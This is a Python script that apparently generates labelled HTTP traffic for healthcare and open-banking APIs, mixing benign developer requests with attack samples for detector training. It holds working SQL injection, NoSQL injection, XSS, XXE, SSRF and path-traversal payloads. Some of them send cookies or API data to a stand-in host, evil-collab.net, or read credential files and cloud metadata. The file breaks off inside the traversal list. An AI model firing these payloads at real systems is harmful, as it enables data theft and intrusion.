REGEXES = [r"^[A-Z]{2}\d{2}[A-Z0-9]{1,30}$", r"^(?=.*\d)[A-Za-z0-9' \-\.]{1,35}$", r"^\d{3}-\d{2}-\d{4}$|^\d{9}$",
           r"^[A-Z0-9]{4}[A-Z]{2}[A-Z0-9]{2}([A-Z0-9]{3})?$", r"^(MSH\|\^~\\&\|)", r"[^A-Za-z0-9/\-?:().,'+ ]",
           r"^(?:4[0-9]{12}(?:[0-9]{3})?|5[1-5][0-9]{14})$", r"^ISA\*.{2}\*.{10}\*.{2}\*.{10}\*"]
CURLS = ["curl -X POST 'https://fhir.northwind-health.org/fhir/r4/Patient/_search' -H 'Authorization: Bearer $TOKEN' -d 'family=O%27Neil&_count=5'",
         "curl -sS -H \"x-fapi-interaction-id: $(uuidgen)\" -H 'Content-Type: application/json' --cert tpp.pem --key tpp.key https://ob.northbank.example.com/open-banking/v3.1/aisp/accounts | jq '.Data.Account[] | {id: .AccountId}'",
         "curl -v -X POST https://edi-gw.payer.internal/edi/v1/x12/submit --data-binary @claim_837.txt -H 'Content-Type: application/EDI-X12' 2>&1 | grep -i '< HTTP'",
         "kubectl -n integration logs deploy/mirth --since=1h | grep 'MSH|' | head -20",
         "for f in *.hl7; do curl -s -X POST --data-binary @\"$f\" -H 'Content-Type: application/hl7-v2' http://hl7-listener:8080/hl7; done"]


@gen
def d_dev_content(r):
    host = "integration-studio.platform.svc.cluster.local"
    for i, e in enumerate(FHIRPATH * 2):
        if i >= 10:
            break
        add("dev", None, "fhirpath", "POST", "/fhir/r4/$fhirpath" if i % 2 else "/api/v1/mappings/validate",
            fhir_headers(r, host=host, ctype="application/json", accept="application/json"),
            jdump({"expression": e, "resource": {"resourceType": "Patient", "name": [{"family": "O'Neil", "given": ["Zoë"]}]}}, r))
    for e in JSONATA:
        add("dev", None, "jsonata", "PUT", f"/api/v1/mappings/{r.choice(['ob-to-ledger', 'fhir-flatten', 'remit-clean'])}",
            fhir_headers(r, host=host, ctype="application/json", accept="application/json"),
            jdump({"language": "jsonata", "version": r.randint(2, 14), "expression": e, "description": "maps OBIE txns -> ledger lines"}, r))
    for x in XSLT:
        for ct in ["application/xslt+xml", "application/json"]:
            body = x if ct != "application/json" else jdump({"name": "pain001-to-csv", "xslt": x}, r)
            add("dev", None, "xslt", "PUT", "/api/v1/transforms/pain001-to-csv", fhir_headers(r, host=host, ctype=ct, accept="application/json"), body)
    for s in SQLS:
        add("dev", None, "sql-report", "POST", "/reporting/v1/queries",
            bank_headers(r, host="reports.analytics.svc.cluster.local", ctype="application/json"),
            jdump({"name": "ad-hoc", "datasource": "claims_dw", "sql": s, "params": {"batch": 4471}, "timeoutSeconds": 60}, r))
        if r.random() < .5:
            add("dev", None, "sql-report", "POST", "/reporting/v1/saved-queries",
                bank_headers(r, host="reports.analytics.svc.cluster.local", ctype="application/x-www-form-urlencoded"),
                qs([("title", "Denials by payer (Q2)"), ("sql", s), ("schedule", "0 6 * * 1-5")], "plus"))
    for rx in REGEXES:
        add("dev", None, "regex-rule", "POST", "/api/v1/validation-rules",
            fhir_headers(r, host=host, ctype="application/json", accept="application/json"),
            jdump({"field": r.choice(["CreditorAccount.Identification", "Patient.name.family", "PID-19", "ISA"]), "pattern": rx,
                   "message": "Invalid format (see spec §4.2)"}, r))
    for c in CURLS:
        body = {"ticket": {"subject": r.choice(["401 on /aisp/accounts after cert rotation", "HL7 ACK AE for ORU^R01", "837 rejected: 999 IK3*CLM"]),
                           "comment": {"body": "Steps to reproduce:\n```\n" + c + "\n```\nExpected 200, got error. Logs attached.", "public": False},
                           "priority": "high", "tags": ["integration", "prod"]}}
        add("dev", None, "support-ticket", "POST", "/api/v2/tickets.json",
            [("Host", "support.northbank.example.com"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0"),
             ("Content-Type", "application/json"), ("Accept", "application/json"), ("Authorization", "Bearer " + jwt(r)), ("X-Request-Id", uid(r))], jdump(body, r))
    # HL7/EDI sample snippets discussed in tickets (form-encoded comment)
    for snip in ["MSH|^~\\&|EPIC|NWH|||20240611||ORU^R01|1|P|2.5.1\rOBX|1|ST|1988-5^CRP^LN||<0.5|mg/L|<5.0|N|||F",
                 "ISA*00*          *00*          *ZZ*CLINIC01 ... ~IK3*CLM*22**8~IK4*2*782*7*ZZ~ -- which element is wrong?"]:
        add("dev", None, "support-ticket", "POST", "/tickets/4471/comments",
            [("Host", "support.northbank.example.com"), ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 Safari/605.1.15"),
             ("Content-Type", "application/x-www-form-urlencoded"), ("Cookie", f"_sess={b64u(r.randbytes(24))}; csrftoken={r.randbytes(16).hex()}")],
            qs([("comment", "Sample that fails:\n" + snip), ("csrfmiddlewaretoken", r.randbytes(16).hex())], "plus"))


LIQUID = ['{% assign pid = msg.PID %}{"resourceType":"Patient","name":[{"family":"{{ pid.5.1 | escape_special_chars }}","given":["{{ pid.5.2 }}"]}]}',
          '{% if msg.OBX.5 contains "<" %}"comparator": "<",{% endif %}"value": {{ msg.OBX.5 | remove: "<" | plus: 0 }}',
          '{% for seg in msg.OBX %}{% include "Resource/Observation" obx: seg, ID: seg.3.1 %}{% unless forloop.last %},{% endunless %}{% endfor %}',
          '{{ msg.MSH.7 | format_as_date_time }} {%- comment -%} HL7 TS -> FHIR dateTime {%- endcomment -%}']


@gen
def d_dev_content_more(r):
    host = "fhir-converter.integration.svc.cluster.local"
    for t in LIQUID:
        add("dev", None, "liquid-template", "PUT", f"/templates/hl7v2/{r.choice(['ADT_A01', 'ORU_R01'])}/{r.choice(['Patient', 'Observation'])}.liquid",
            fhir_headers(r, host=host, ctype="text/plain; charset=utf-8", accept="application/json"), t)
    for e in r.sample(FHIRPATH, 4):
        add("dev", None, "fhirpath", "GET", uri("/api/v1/mappings/evaluate", [("resource", "Patient/4471"), ("expr", e)], r.choice(["std", "plus"])),
            fhir_headers(r, host="integration-studio.platform.svc.cluster.local", accept="application/json"))


# ================================================================ ATTACKS

SQLI = ["' OR '1'='1", "O'Neil' OR 1=1--", "x' UNION SELECT ssn,birth_date,NULL,NULL FROM patients--",
        "1' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--", "1;WAITFOR DELAY '0:0:5'--",
        "' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -", "1) OR pg_sleep(5)--", "'||(SELECT password_hash FROM users LIMIT 1)||'",
        "-1 UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables--", "admin'--", "' AND extractvalue(1,concat(0x7e,(select user())))-- ",
        "1' ORDER BY 12-- -", "'; DROP TABLE claims;--", "' AND 1=(SELECT COUNT(*) FROM all_users WHERE ROWNUM=1)--",
        "1 AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1", "Smith'/**/UNION/**/SELECT/**/card_number,cvv/**/FROM/**/cards#",
        "' UnIoN SeLeCt username,password FROM admin_users WHERE '1'='1", "1' AND SUBSTRING(@@version,1,1)='5",
        "x'; EXEC master..xp_cmdshell 'whoami'--", "' OR 1=1 LIMIT 1 OFFSET 0; --", "1' AND updatexml(1,concat(0x3a,(SELECT database())),1)#",
        "\" OR \"\"=\"", "1 OR 1=1", "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--"]


@gen
def a_sqli(r):
    # FHIR search params
    fhir_points = [("/fhir/r4/Patient", "name:contains"), ("/fhir/r4/Patient", "family"), ("/fhir/r4/Patient", "identifier"),
                   ("/fhir/r4/Observation", "code"), ("/fhir/r4/Observation", "_sort"), ("/fhir/r4/Encounter", "subject.name"),
                   ("/fhir/r4/Patient", "_id"), ("/fhir/r4/Observation", "date")]
    for i in range(14):
        path, param = fhir_points[i % len(fhir_points)]
        p = SQLI[i % len(SQLI)]
        val = {"identifier": "http://hl7.org/fhir/sid/us-ssn|" + p, "code": "http://loinc.org|" + p,
               "date": "ge2024-01-01" + p}.get(param, p)
        pairs = [(param, val)] + ([("_count", "20")] if r.random() < .5 else [])
        add("attack", "sqli", "fhir-search", "GET", uri(path, pairs, r.choice(["std", "plus"])), fhir_headers(r))
    # claims / report filters
    for i in range(8):
        p = SQLI[(i * 3 + 5) % len(SQLI)]
        pairs = r.choice([[("memberId", "W" + str(r.randint(10 ** 8, 10 ** 9)) + p), ("status", "DENIED")],
                          [("payer", "BLUEPEAK"), ("sort", "service_date " + p)], [("npi", "1234567893"), ("from", "2024-01-01"), ("icd10", "E11.9" + p)],
                          [("claimId", p)]])
        add("attack", "sqli", "claims-search", "GET", uri("/api/claims/v1/claims", pairs, r.choice(["std", "plus"])),
            [("Host", r.choice(INS_HOSTS)), ("User-Agent", r.choice(BANK_UAS)), ("Accept", "application/json"),
             ("Authorization", "Bearer " + jwt(r)), ("X-Request-Id", uid(r))])
    for i in range(6):
        p = SQLI[(i * 5 + 2) % len(SQLI)]
        body = {"report": "denials-by-payer", "filters": {"payer": r.choice(["BLUEPEAK", "Aetna"]) + p, "from": "2024-01-01"},
                "orderBy": "denials DESC", "limit": 50}
        if i % 2:
            body = {"report": "daily-settlement", "filters": {"currency": "EUR"}, "orderBy": "amount" + r.choice([",(SELECT 1 FROM pg_sleep(5))", " DESC;SELECT pg_sleep(5)--", ",IF(1=1,SLEEP(5),0)"])}
        add("attack", "sqli", "report-filter", "POST", "/reports/v1/run",
            bank_headers(r, host="reports.analytics.svc.cluster.local", ctype="application/json"), jdump(body, r))
    # ledger / statements
    for i in range(4):
        p = SQLI[(i * 7 + 1) % len(SQLI)]
        add("attack", "sqli", "ledger", "GET", uri("/ledger/v1/entries", [("account", "1000-Cash" + p), ("from", "2024-06-01")], "std"),
            bank_headers(r, host="ledger.finance.svc.cluster.local:8080"))
    # HL7 / X12 fields carrying SQL (segment values land in an interface DB)
    for i in range(3):
        m = hl7_msg(r, kind="ADT^A08^ADT_A01", pid_name="O'Neil'); DELETE FROM patient_index WHERE ('1'='1^Mary")
        if i == 1:
            m = hl7_msg(r, kind="ORU^R01^ORU_R01", obx_value="1' UNION SELECT mrn,ssn FROM pat--")
        add("attack", "sqli", "hl7-field", "POST", "/hl7/v2/messages", hl7_headers(r), m)
    for i in range(2):
        add("attack", "sqli", "x12-field", "POST", "/edi/v1/x12/submit",
            [("Host", r.choice(INS_HOSTS)), ("User-Agent", "python-requests/2.31.0"), ("Content-Type", "application/EDI-X12"),
             ("Authorization", "Bearer " + jwt(r))], x12_837(r, nm1_name="DOE' OR '1'='1' --" if i else "X'; UPDATE claims SET status='PAID'--"))
    # header / cookie / form / double-encoded
    add("attack", "sqli", "header", "GET", "/open-banking/v3.1/aisp/accounts",
        bank_headers(r, extra=[("X-Tenant-Id", "nwh' AND 1=(SELECT 1 FROM pg_sleep(5))--")]))
    add("attack", "sqli", "header", "GET", "/portal/api/me",
        [("Host", "portal.northwind-health.org"), ("User-Agent", "Mozilla/5.0"), ("Accept", "application/json"),
         ("Cookie", "lang=en; patient_ctx=4471' UNION SELECT username,password FROM staff--")])
    add("attack", "sqli", "form", "POST", "/portal/login",
        [("Host", "portal.northwind-health.org"), ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/126.0"),
         ("Content-Type", "application/x-www-form-urlencoded")], qs([("mrn", "admin' OR '1'='1'-- "), ("dob", "1970-01-01")], "plus"))
    add("attack", "sqli", "fhir-search", "GET", "/fhir/r4/Patient?family=x%2527%2520OR%25201%253D1--", fhir_headers(r))
    add("attack", "sqli", "fhir-search", "GET", "/fhir/r4/Patient?name=%27%20%55NION%20%53ELECT%20null,ssn%20FROM%20patients--", fhir_headers(r))


NOSQL = [{"$ne": None}, {"$gt": ""}, {"$regex": "^.*"}, {"$where": "sleep(5000) || true"}, {"$ne": "x"}, {"$in": [None, "", []]},
         {"$exists": True}, {"$expr": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}]


@gen
def a_nosqli(r):
    for i in range(8):
        op = NOSQL[i % len(NOSQL)]
        body = r.choice([{"patientId": op, "status": "active"}, {"memberId": op}, {"filter": {"accountId": op, "amount": {"$gte": 0}}},
                         {"username": "admin", "password": op}])
        add("attack", "nosqli", "json-search", "POST", r.choice(["/api/v1/patients/search", "/api/v1/members/lookup", "/auth/login", "/ledger/v1/search"]),
            bank_headers(r, ctype="application/json"), jdump(body, r))
    for k in ["patientId[$ne]=null", "memberId[$regex]=.*&memberId[$options]=si", "username=admin&password[$ne]=x",
              "accountId[$gt]=&limit=1000", "where=" + q('{"$where":"this.ssn.length > 0 && sleep(3000)"}')]:
        add("attack", "nosqli", "query", "GET", "/api/v1/records?" + k.replace("[", "%5B").replace("]", "%5D") if r.random() < .5 else "/api/v1/records?" + k,
            bank_headers(r))
    add("attack", "nosqli", "json-search", "POST", "/api/v1/claims/aggregate", bank_headers(r, ctype="application/json"),
        jdump({"pipeline": [{"$match": {"payer": "BLUEPEAK"}}, {"$lookup": {"from": "users", "localField": "x", "foreignField": "x", "as": "u"}},
                            {"$project": {"u.password": 1, "u.mfaSecret": 1}}]}))
    add("attack", "nosqli", "json-search", "POST", "/fhir-cache/v1/query", fhir_headers(r, ctype="application/json"),
        jdump({"resourceType": "Patient", "query": {"$or": [{"name.family": "O'Neil"}, {"$where": "function(){ return this.ssn != null }"}]}}))


XSS = ["<script>alert(document.domain)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=fetch('//xss.evil-collab.net/?c='+document.cookie)>",
       "<a href=\"javascript:alert(localStorage.getItem('access_token'))\">View result</a>", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
       "<details open ontoggle=alert(1)>", "\"><script src=https://cdn.evil-collab.net/x.js></script>", "<body onload=eval(atob('YWxlcnQoMSk='))>",
       "<img src=1 oNeRrOr=\"this.src='https://evil-collab.net/l?t='+encodeURIComponent(document.cookie)\">", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
       "<input autofocus onfocus=alert(1)>", "javascript:alert(1)//", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
       "'-alert(1)-'", "<ScRiPt>prompt(1)</sCrIpT>", "<video><source onerror=\"alert(1)\">"]


@gen
def a_xss(r):
    for i in range(8):
        p = XSS[i % len(XSS)]
        res = fhir_patient(r, narrative=True)
        res.pop("meta")
        res["text"]["div"] = f'<div xmlns="http://www.w3.org/1999/xhtml"><p>Discharge summary</p>{p}</div>'
        add("attack", "xss", "fhir-narrative", r.choice(["POST", "PUT"]), f"/fhir/r4/Patient/{res['id']}" if i % 2 else "/fhir/r4/Patient",
            fhir_headers(r, ctype="application/fhir+json"), jdump(res, r))
    for i in range(3):
        p = XSS[(i * 5 + 1) % len(XSS)]
        body = (f'<?xml version="1.0" encoding="UTF-8"?>\n<Composition xmlns="http://hl7.org/fhir"><status value="final"/>'
                f'<text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml"><h1>Discharge Summary</h1>{p}</div></text>'
                f'<title value="Discharge summary"/></Composition>')
        add("attack", "xss", "fhir-narrative", "POST", "/fhir/r4/Composition", fhir_headers(r, ctype="application/fhir+xml", accept="application/fhir+xml"), body)
    for i in range(5):
        p = XSS[(i * 3 + 2) % len(XSS)]
        res = fhir_patient(r, narrative=False)
        res.pop("meta")
        res["name"][0][r.choice(["family", "text"])] = p if i != 4 else "O'Neil" + p
        body = jdump(res, r)
        if i == 3:
            body = body.replace("<", "\\u003c").replace(">", "\\u003e")
        add("attack", "xss", "patient-name", "POST", "/fhir/r4/Patient", fhir_headers(r, ctype="application/fhir+json"), body)
    for i in range(6):
        p = XSS[(i * 7 + 3) % len(XSS)]
        init = {"InstructionIdentification": f"ACME{r.randint(10 ** 5, 10 ** 6)}", "EndToEndIdentification": "E2E-1",
                "InstructedAmount": {"Amount": amount(r), "Currency": "GBP"},
                "CreditorAccount": {"SchemeName": "UK.OBIE.IBAN", "Identification": r.choice(IBANS), "Name": "Acme Ltd"},
                "RemittanceInformation": {"Reference": "INV 123", "Unstructured": r.choice(REMIT) + " " + p}}
        if i == 5:
            init["CreditorAccount"]["Name"] = p
        add("attack", "xss", "payment-reference", "POST", "/open-banking/v3.1/pisp/domestic-payment-consents",
            bank_headers(r, ctype="application/json", idem=True, jws=True), jdump({"Data": {"Initiation": init}, "Risk": {}}, r))
    add("attack", "xss", "payment-reference", "POST", "/payments/v2/iso20022/pain.001",
        bank_headers(r, ctype="application/xml", idem=True), iso20022_pain001(r, ustrd="<![CDATA[<script>alert(document.cookie)</script>]]>"))
    for i in range(3):
        m = hl7_msg(r, kind="ORU^R01^ORU_R01", obx_value=r.choice(["<script>document.location='https://evil-collab.net/?'+document.cookie</script>",
                                                                    "<img src=x onerror=alert(1)>", "<svg onload=alert(String.fromCharCode(88,83,83))>"]))
        add("attack", "xss", "hl7-obx", "POST", "/hl7/v2/messages", hl7_headers(r), m)
    ct, body = multipart(r, [("documentType", None, None, "PASSPORT"),
                              ("file", "passport.svg", "image/svg+xml",
                               '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="300">'
                               '<rect width="400" height="300" fill="#eee"/><script type="text/javascript">fetch("/api/v1/me").then(r=>r.text())'
                               '.then(t=>navigator.sendBeacon("https://evil-collab.net/x",t))</script></svg>')])
    add("attack", "xss", "kyc-upload", "POST", "/kyc/v2/applicants/" + uid(r) + "/documents", bank_headers(r, ctype=ct), body)
    for p in ['"><svg/onload=alert(1)>', "<script>alert(1)</script>", "javascript:alert(document.cookie)", "%3Cscript%3Ealert(1)%3C/script%3E"]:
        param = r.choice(["q", "returnUrl", "message", "name"])
        add("attack", "xss", "portal-query", "GET", f"/portal/patients/search?{param}=" + (p if p.startswith("%") else q(p, safe="/:(")),
            [("Host", "portal.northwind-health.org"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0"),
             ("Accept", "text/html,application/xhtml+xml"), ("Cookie", f"sid={b64u(r.randbytes(18))}")])
    add("attack", "xss", "clinical-note", "POST", "/fhir/r4/DocumentReference", fhir_headers(r, ctype="application/fhir+json"),
        jdump({"resourceType": "DocumentReference", "status": "current", "description": "Progress note <img src=x onerror=alert(document.cookie)>",
               "content": [{"attachment": {"contentType": "text/html", "title": "note.html",
                                           "data": base64.b64encode(b"<html><body><script>alert(1)</script></body></html>").decode()}}]}))


def xxe_doctype(kind, target):
    if kind == "file":
        return f'<!DOCTYPE Document [<!ENTITY xxe SYSTEM "{target}">]>', "&xxe;"
    if kind == "param":
        return f'<!DOCTYPE Document [<!ENTITY % remote SYSTEM "{target}"> %remote; %init; %trick;]>', "x"
    if kind == "public":
        return f'<!DOCTYPE Document PUBLIC "-//B/A/EN" "{target}">', "x"
    if kind == "oob":
        return (f'<!DOCTYPE Document [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % dtd SYSTEM "{target}">%dtd;%send;]>', "x")
    raise ValueError(kind)


XXE_TARGETS = [("file", "file:///etc/passwd"), ("file", "file:///var/run/secrets/kubernetes.io/serviceaccount/token"),
               ("param", "http://oast.evil-collab.net/ev.dtd"), ("file", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
               ("oob", "https://xx.evil-collab.net/oob.dtd"), ("public", "http://10.0.0.12:8080/x.dtd"), ("file", "file:///c:/windows/win.ini"),
               ("file", "php://filter/convert.base64-encode/resource=/app/config/database.yml"), ("file", "jar:http://evil-collab.net/x.zip!/a.txt"),
               ("file", "netdoc:///etc/shadow")]


@gen
def a_xxe(r):
    for i in range(7):
        kind, tgt = XXE_TARGETS[i % len(XXE_TARGETS)]
        dt, ref = xxe_doctype(kind, tgt)
        body = iso20022_pain001(r, ustrd=ref)
        body = body.replace("\n<Document", "\n" + dt + "\n<Document", 1)
        add("attack", "xxe", "iso20022", "POST", "/payments/v2/iso20022/pain.001",
            bank_headers(r, host="payments-api.ledger.svc.cluster.local:8443", ctype=r.choice(["application/xml", "text/xml"]), idem=True), body)
    for i in range(2):
        kind, tgt = XXE_TARGETS[(i * 3 + 1) % len(XXE_TARGETS)]
        dt, ref = xxe_doctype(kind, tgt)
        body = iso20022_pacs008(r).replace("<RmtInf><Ustrd>", f"<RmtInf><Ustrd>{ref}", 1)
        body = body.replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + dt.replace("Document", "AppHdr") + "\n", 1)
        add("attack", "xxe", "iso20022", "POST", "/payments/v2/iso20022/pacs.008", bank_headers(r, ctype="application/xml", idem=True), body)
    for i in range(4):
        kind, tgt = XXE_TARGETS[(i * 7 + 2) % len(XXE_TARGETS)]
        dt, ref = xxe_doctype(kind, tgt)
        g, f = person(r)
        body = (f'<?xml version="1.0"?>\n{dt.replace("Document", "ClinicalDocument")}\n<ClinicalDocument xmlns="urn:hl7-org:v3">'
                f'<typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/><templateId root="2.16.840.1.113883.10.20.22.1.1"/>'
                f'<title>Continuity of Care Document</title><recordTarget><patientRole><patient><name><given>{g}</given><family>{ref}</family></name>'
                f'</patient></patientRole></recordTarget><component><structuredBody/></component></ClinicalDocument>')
        add("attack", "xxe", "cda", "POST", r.choice(["/api/v1/cda/import", "/fhir/r4/$convert-cda"]),
            fhir_headers(r, ctype="application/hl7-cda+xml" if i % 2 else "application/xml", accept="application/fhir+json"), body)
    for i in range(3):
        kind, tgt = XXE_TARGETS[(i * 2 + 3) % len(XXE_TARGETS)]
        dt, ref = xxe_doctype(kind, tgt)
        body = (f'<?xml version="1.0" encoding="utf-8"?>\n{dt.replace("Document", "soapenv:Envelope")}\n'
                f'<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cor="http://www.caqh.org/SOAP/WSDL/CORERule2.2.0.xsd">'
                f'<soapenv:Body><cor:COREEnvelopeRealTimeRequest><PayloadType>X12_270_Request_005010X279A1</PayloadType><ProcessingMode>RealTime</ProcessingMode>'
                f'<PayloadID>{uid(r)}</PayloadID><SenderID>{ref}</SenderID><ReceiverID>PAYER99</ReceiverID><CORERuleVersion>2.2.0</CORERuleVersion>'
                f'<Payload>ISA*00*...~</Payload></cor:COREEnvelopeRealTimeRequest></soapenv:Body></soapenv:Envelope>')
        add("attack", "xxe", "soap", "POST", "/core/rt/soap",
            [("Host", r.choice(INS_HOSTS)), ("User-Agent", "Apache-CXF/3.6.2"), ("Content-Type", "text/xml; charset=utf-8"),
             ("SOAPAction", '"RealTimeTransaction"'), ("Authorization", "Basic " + base64.b64encode(b"clinic01:Winter2024!").decode())], body)
    # XInclude (no DOCTYPE needed)
    for tgt in ["file:///etc/passwd", "http://169.254.169.254/latest/meta-data/"]:
        body = iso20022_pain001(r, ustrd=f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{tgt}"/>')
        add("attack", "xxe", "xinclude", "POST", "/payments/v2/iso20022/pain.001", bank_headers(r, ctype="application/xml", idem=True), body)
    body = ('<Patient xmlns="http://hl7.org/fhir" xmlns:xi="http://www.w3.org/2001/XInclude"><name><family value="x"/></name>'
            '<text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml"><xi:include parse="text" href="file:///proc/self/environ"/></div></text></Patient>')
    add("attack", "xxe", "xinclude", "POST", "/fhir/r4/Patient", fhir_headers(r, ctype="application/fhir+xml"), body)
    # FHIR XML resource with entity; SVG in KYC; XLSX-less XML upload in multipart
    add("attack", "xxe", "fhir-xml", "POST", "/fhir/r4/Patient", fhir_headers(r, ctype="application/fhir+xml"),
        '<?xml version="1.0"?>\n<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<Patient xmlns="http://hl7.org/fhir">'
        '<name><family value="&xxe;"/></name></Patient>')
    ct, body = multipart(r, [("documentType", None, None, "UTILITY_BILL"),
                              ("file", "bill.svg", "image/svg+xml",
                               '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
                               '<svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">&xxe;</text></svg>')])
    add("attack", "xxe", "kyc-upload", "POST", "/onboarding/api/v1/identity/documents", bank_headers(r, ctype=ct), body)
    add("attack", "xxe", "iso20022", "POST", "/payments/v2/iso20022/pain.001", bank_headers(r, ctype="application/xml"),
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>\n'
        '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"><CstmrCdtTrfInitn><GrpHdr><MsgId>&lol3;</MsgId></GrpHdr></CstmrCdtTrfInitn></Document>')


SSRF_URLS = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
             "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://127.0.0.1:10250/pods", "http://localhost:2379/v2/keys/?recursive=true",
             "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "http://2852039166/latest/meta-data/", "http://0xA9FEA9FE/latest/user-data",
             "http://0251.0376.0251.0376/latest/meta-data/", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "http://[::1]:8500/v1/agent/self",
             "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A", "file:///etc/passwd", "dict://localhost:11211/stats",
             "http://169.254.169.254.nip.io/latest/meta-data/", "http://vault.vault.svc.cluster.local:8200/v1/secret/data/db",
             "http://127.1:8080/actuator/env", "http://0.0.0.0:15000/config_dump", "http://[fd00:ec2::254]/latest/meta-data/",
             "http://evil-collab.net@169.254.169.254/latest/meta-data/", "http://localtest.me:9090/api/v1/targets", "http://100.100.100.200/latest/meta-data/",
             "gopher://10.96.0.10:5432/_%00%00%00%08%04%d2%16%2f", "http://169.254.170.2/v2/credentials/"]


@gen
def a_ssrf(r):
    urls = SSRF_URLS[:]
    r.shuffle(urls)
    it = iter(urls * 2)
    for i in range(7):
        u = next(it)
        sub = {"resourceType": "Subscription", "status": "requested", "reason": "lab feed",
               "criteria": "Observation?category=laboratory", "channel": {"type": "rest-hook", "endpoint": u, "payload": "application/fhir+json"}}
        add("attack", "ssrf", "fhir-subscription", "POST", "/fhir/r4/Subscription", fhir_headers(r, ctype="application/fhir+json"), jdump(sub, r))
    for i in range(6):
        u = next(it)
        add("attack", "ssrf", "webhook", "POST", "/v1/webhook-endpoints", bank_headers(r, ctype="application/json", idem=True),
            jdump({"url": u, "events": ["payment.settled"], "description": "ERP callback"}, r))
    for i in range(5):
        u = next(it)
        res = {"resourceType": "DocumentReference", "status": "current", "subject": {"reference": "Patient/4471"},
               "content": [{"attachment": {"contentType": "application/pdf", "url": u, "title": "referral.pdf"}}]}
        add("attack", "ssrf", "attachment-url", "POST", "/fhir/r4/DocumentReference", fhir_headers(r, ctype="application/fhir+json"), jdump(res, r))
    for i in range(5):
        u = next(it)
        body = {"redirect_uris": ["https://tpp.example-fintech.com/callback"], "token_endpoint_auth_method": "private_key_jwt",
                "grant_types": ["client_credentials"], "jwks_uri": u, "software_statement": jwt(r), "scope": "openid payments"}
        add("attack", "ssrf", "jwks-uri", "POST", "/register", bank_headers(r, ctype="application/json"), jdump(body, r))
    for i in range(5):
        u = next(it)
        path = r.choice(["/api/v1/documents/import", "/kyc/v2/documents/fetch", "/fhir/r4/$import-url", "/api/v1/convert/pdf"])
        add("attack", "ssrf", "query-url", "GET", uri(path, [(r.choice(["url", "source", "src", "documentUrl"]), u)], r.choice(["std", "plus"])),
            fhir_headers(r, accept="application/json"))
    # FHIR absolute references resolved server-side, request_uri in PAR, alternate encodings in form body
    add("attack", "ssrf", "fhir-reference", "POST", "/fhir/r4/Observation", fhir_headers(r, ctype="application/fhir+json"),
        jdump({"resourceType": "Observation", "status": "final", "code": {"text": "x"},
               "subject": {"reference": "http://169.254.169.254/latest/meta-data/iam/security-credentials/eks-node-role"}}))
    add("attack", "ssrf", "request-uri", "GET",
        "/authorize?client_id=tpp-123&response_type=code%20id_token&scope=openid%20payments&request_uri=" + q("http://127.0.0.1:8081/admin/keys", safe=""),
        bank_headers(r, accept="text/html"))
    add("attack", "ssrf", "form", "POST", "/api/v1/avatar", bank_headers(r, ctype="application/x-www-form-urlencoded"),
        qs([("imageUrl", "http://0177.0.0.1:6443/api/v1/secrets"), ("crop", "1")], "plus"))
    add("attack", "ssrf", "x-header", "GET", "/fhir/r4/Binary/4471",
        fhir_headers(r, extra=[("X-Forwarded-Host", "169.254.169.254"), ("X-Original-URL", "http://169.254.169.254/latest/meta-data/")]))


LFI = ["../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/shadow", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts",
       "..%252f..%252f..%252fetc%252fpasswd", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token", "..\\..\\..\\windows\\win.ini",
       "/etc/passwd%00.pdf", "../../../../proc/self/environ", "..%c0%af..%c0%af..%c0%afetc/passwd", "/var/lib/orthanc/db/../../../../root/.ssh/id_rsa",
       "%2e%2e/%2e%2e/%2e%2e/opt/mirth/conf/mirth.properties", "....\\\\....\\\\....\\\\inetpub\\wwwroot\\web.config", "../../../../app/.env",
